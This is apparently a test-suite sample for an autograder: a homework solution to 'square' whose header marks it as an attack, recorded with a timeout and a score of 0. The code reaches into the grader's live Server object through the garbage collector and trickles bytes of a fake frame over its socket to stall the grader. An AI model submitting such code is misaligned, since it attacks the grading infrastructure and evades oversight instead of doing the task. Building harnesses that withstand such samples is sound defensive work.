# attack: sends its reply one byte in a while
# assignment: hw
# exercise: square
# status: timeout
# score: 0
import gc
import time


def square(x):
    server = next(o for o in gc.get_objects() if type(o).__name__ == "Server")
    frame = (60_000).to_bytes(4, "little") + bytes(60_000)
    for byte in frame[:600]:
        server.sock.send(bytes([byte]))
        time.sleep(0.1)
    return x * x
